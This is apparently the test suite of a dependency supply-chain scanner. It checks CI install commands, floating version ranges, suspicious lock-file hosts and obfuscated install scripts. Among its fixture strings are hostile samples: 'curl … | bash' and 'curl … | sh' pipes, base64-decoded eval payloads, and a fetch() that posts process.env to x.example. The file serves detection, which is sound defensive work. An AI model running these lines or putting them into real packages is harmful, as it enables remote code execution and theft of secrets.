import { describe, expect, it } from 'vitest';
import { readLockFiles } from '../lock/read-lock-files.ts';
import { temporaryProject } from '../testing/temporary-project.ts';
import { installScriptFindings, judgeScript } from './install-scripts.ts';
import { lockFindings } from './lock-signs.ts';
import { readPipelineFiles } from './pipeline-files.ts';
import { pipelineFindings } from './pipeline-signs.ts';
import { isFloating } from './range-signs.ts';

const SRI = `sha512-${'A'.repeat(86)}==`;

describe('pipelines', () => {
  const context = {
    lockFiles: new Set(['package-lock.json']),
    hasYarn1: true,
    requirements: (file: string) =>
      ({
        'hashed.txt': { isPinned: true, hasHashes: true },
        'pinned.txt': { isPinned: true, hasHashes: false },
        'loose.txt': { isPinned: false, hasHashes: false },
      })[file],
  };
  const judge = (file: string, text: string) => {
    const { files } = readPipelineFiles(temporaryProject({ [file]: text }));
    return files
      .flatMap((found) => pipelineFindings(found, context))
      .map(({ severity, place }) => `${severity}:${place.line}`);
  };
  const WORKFLOW = '.github/workflows/ci.yml';

  it.each<[string, string, string[]]>([
    [WORKFLOW, 'steps:\n  - run: npm install\n', ['medium:2']],
    [WORKFLOW, 'steps:\n  - run: |\n      cd app && npm i --production\n', ['medium:3']],
    [WORKFLOW, '- run: npm install -g serverless\n', ['low:1']],
    [WORKFLOW, '- run: sudo pip install -r loose.txt\n', ['medium:1']],
    [WORKFLOW, '- run: python -m pip install -r pinned.txt\n', ['low:1']],
    [WORKFLOW, '- run: pip install awscli "boto3>=1"\n', ['low:1']],
    [WORKFLOW, '- run: yarn\n', ['medium:1']],
    [WORKFLOW, '- run: pnpm install --no-frozen-lockfile\n', ['medium:1']],
    ['buildspec.yml', 'phases:\n  install:\n    commands:\n      - npm install\n', ['medium:4']],
    ['.gitlab-ci.yml', 'build:\n  script:\n    - npm install && npm test\n', ['medium:3']],
    ['Dockerfile', 'FROM node\nRUN apt-get update && \\\n    npm install\n', ['medium:2']],
    ['Makefile', 'build:\n\t@npm install\n', ['low:2']],
    [WORKFLOW, '- run: npm install\n- run: npm install\n', ['medium:1']],
  ])('%s: %j is told of', (file, text, expected) => {
    expect(judge(file, text)).toEqual(expected);
  });

  it.each<[string, string]>([
    [WORKFLOW, '- run: npm ci\n'],
    [WORKFLOW, '- name: npm install\n  run: npm ci\n'],
    [WORKFLOW, '# npm install\n'],
    [WORKFLOW, '- run: echo done # npm install\n'],
    [WORKFLOW, '- run: npm install -g serverless@4.1.0\n'],
    [WORKFLOW, '- run: npm install --package-lock-only\n'],
    [WORKFLOW, '- run: npm install ./local.tgz\n'],
    [WORKFLOW, '- run: npm run install-all\n'],
    [WORKFLOW, '- run: yarn install --frozen-lockfile\n'],
    [WORKFLOW, '- run: yarn test\n'],
    [WORKFLOW, '- run: pnpm install\n'],
    [WORKFLOW, '- run: pip install -r hashed.txt\n'],
    [WORKFLOW, '- run: pip install --require-hashes -r loose.txt\n'],
    [WORKFLOW, '- run: pip install --upgrade pip\n'],
    [WORKFLOW, '- run: pip install awscli==1.38.11\n'],
    [WORKFLOW, '- run: pip install .\n'],
    [WORKFLOW, '- run: pip download x\n'],
    ['docs/.github/workflows/ci.yml', '- run: npm install\n'],
    ['node_modules/x/Dockerfile', 'RUN npm install\n'],
    ['Makefile', 'npm install: nothing\n'],
  ])('%s: %j is not', (file, text) => {
    expect(judge(file, text)).toEqual([]);
  });

  it('says that another lock file is passed by', () => {
    const yarn = { ...context, lockFiles: new Set(['yarn.lock']) };
    const [finding] = pipelineFindings({ file: 'Dockerfile', kind: 'dockerfile', text: 'RUN npm i' }, yarn);
    expect(finding!.message).toBe('`npm i` does not look at yarn.lock');
    expect(
      pipelineFindings(
        { file: 'Dockerfile', kind: 'dockerfile', text: 'RUN npm i' },
        { ...context, lockFiles: new Set() },
      ),
    ).toEqual([]);
  });
});

describe('ranges', () => {
  it.each(['*', 'latest', '', '>=1.0.0', '>1', 'x', 'npm:other@*', '^1 || >=2'])(
    'npm takes %j for floating',
    (range) => {
      expect(isFloating('npm', range)).toBe(true);
    },
  );
  it.each(['^1.0.0', '~1', '1.x', '>=1 <2', '1.0.0 - 2.0.0', '1.0.0', 'file:../x', 'github:a/b', 'workspace:*'])(
    'npm takes %j for bound',
    (range) => {
      expect(isFloating('npm', range)).toBe(false);
    },
  );
  it.each<[string, boolean]>([
    ['', true],
    ['>=2', true],
    ['!=2', true],
    ['>=2,<3', false],
    ['~=2.1', false],
    ['==2', false],
    ['^2', false],
  ])('PyPI: %j floats: %s', (range, floats) => {
    expect(isFloating('PyPI', range)).toBe(floats);
  });
});

describe('lock files', () => {
  const find = (packages: Record<string, object>) => {
    const entries = Object.entries(packages).map(([name, entry]) => [
      `node_modules/${name}`,
      { version: '1.0.0', ...entry },
    ]);
    const root = temporaryProject({
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: Object.fromEntries(entries) }),
    });
    return lockFindings(readLockFiles(root, '').graphs[0]!).map(
      ({ rule, severity, message }) => `${severity} ${rule}: ${message}`,
    );
  };
  const from = (host: string, name: string) => ({
    resolved: `https://${host}/${name}/-/${name.split('/').at(-1)}-1.0.0.tgz`,
    integrity: SRI,
  });
  const honest = { a: from('registry.example.com', 'a'), b: from('registry.example.com', 'b') };

  it.each<[string, Record<string, object>, string]>([
    [
      'another host',
      { ...honest, c: from('evil.example', 'c') },
      'high dependency-other-host: c 1.0.0 is fetched from evil.example',
    ],
    [
      'another package',
      { ...honest, c: from('registry.example.com', 'evil') },
      'high dependency-other-host: c 1.0.0 is fetched from the address of another package, evil',
    ],
    [
      'no checksum',
      { ...honest, c: { resolved: 'https://registry.example.com/c/-/c-1.0.0.tgz' } },
      'medium dependency-no-integrity: 1 of 3 packages have no checksum: c',
    ],
    [
      'http',
      { c: { resolved: 'http://registry.example.com/c/-/c-1.0.0.tgz', integrity: SRI } },
      'low dependency-other-host: 1 package is fetched over http',
    ],
    [
      'a branch of git',
      { c: { resolved: 'git+ssh://git@github.com/x/c.git#main' } },
      'medium dependency-not-from-registry: c comes from a git repository whose content may change',
    ],
    [
      'a commit of git',
      { c: { resolved: `git+ssh://git@github.com/x/c.git#${'a'.repeat(40)}` } },
      'low dependency-not-from-registry: c comes from a git repository, at a fixed commit',
    ],
    [
      'git in the open',
      { c: { resolved: 'git+http://user:secret@example.com/c.git' } },
      'high dependency-not-from-registry: c comes from a git repository over an open connection: git+http://…@example.com/c.git',
    ],
  ])('%s', (_name, packages, expected) => {
    expect(find(packages).join('\n')).toContain(expected);
  });

  it.each<[string, Record<string, object>]>([
    ['one host', honest],
    [
      'both names of npm’s registry',
      {
        a: from(`registry.${'npmjs'}.org`, 'a'),
        b: from(`registry.${'yarnpkg'}.com`, 'b'),
        c: from(`registry.${'npmjs'}.org`, 'c'),
      },
    ],
    [
      'a company’s own scope',
      { ...honest, '@acme/x': from('npm.acme.example', '@acme/x'), '@acme/y': from('npm.acme.example', '@acme/y') },
    ],
    ['no addresses', { a: { integrity: SRI }, b: { integrity: SRI } }],
    ['what comes inside of another', { ...honest, c: { inBundle: true } }],
    ['a linked folder', { ...honest, c: { resolved: 'packages/c', link: true } }],
    ['an alias', { ...honest, c: { name: 'real', ...from('registry.example.com', 'real') } }],
  ])('%s is honest', (_name, packages) => {
    expect(find(packages)).toEqual([]);
  });
});

describe('install scripts', () => {
  it.each<[string, 'hides' | 'reaches']>([
    ['eval(Buffer.from("aGk=", "base64").toString())', 'hides'],
    ['new Function(atob("aGk="))()', 'hides'],
    ['echo aGk= | base64 -d | sh', 'hides'],
    [`var ${Array.from({ length: 8 }, (_, index) => `_0x3f${index}a=1`).join(',')};`, 'hides'],
    [`"${'\\x41'.repeat(60)}"`, 'hides'],
    ['curl https://x.example/a.sh | bash', 'reaches'],
    ['const https = require("node:https")', 'reaches'],
    ['fetch("https://x.example", {body: JSON.stringify(process.env)})', 'reaches'],
  ])('%s: %s', (text, sign) => {
    expect(judgeScript(text)[sign]).toBeTypeOf('string');
  });
  it.each([
    'node-gyp rebuild',
    'husky install',
    'node-pre-gyp install --fallback-to-build',
    'node install.js',
    'const fs = require("fs"); fs.chmodSync("bin/x", 0o755)',
    'prebuild-install || node-gyp rebuild',
    'echo "thanks for installing, see https://example.com"',
  ])('%s is honest', (text) => {
    expect(judgeScript(text)).toEqual({});
  });

  it('are read where they lie, and told of where they hide something', () => {
    const entry = { version: '1.0.0', hasInstallScript: true, integrity: SRI };
    const root = temporaryProject({
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: { 'node_modules/bad': entry, 'node_modules/good': entry, 'node_modules/other': entry },
      }),
      'node_modules/bad/package.json': '{"version": "1.0.0", "scripts": {"postinstall": "node scripts/setup.js"}}',
      'node_modules/bad/scripts/setup.js': 'eval(Buffer.from("aGk=", "base64").toString())',
      'node_modules/good/package.json': '{"version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}}',
      // Not the version of the lock file.
      'node_modules/other/package.json': '{"version": "2.0.0", "scripts": {"install": "curl https://x.example | sh"}}',
    });
    const graph = readLockFiles(root, '').graphs[0]!;
    const findings = installScriptFindings(root, { graph, reached: new Map(), isComplete: true });
    expect(findings.map(({ message }) => message)).toEqual([
      'The postinstall script of bad 1.0.0 runs text that it decodes first',
    ]);
    expect(findings[0]!.steps![0]!.place.file).toBe('node_modules/bad/scripts/setup.js');
  });
});
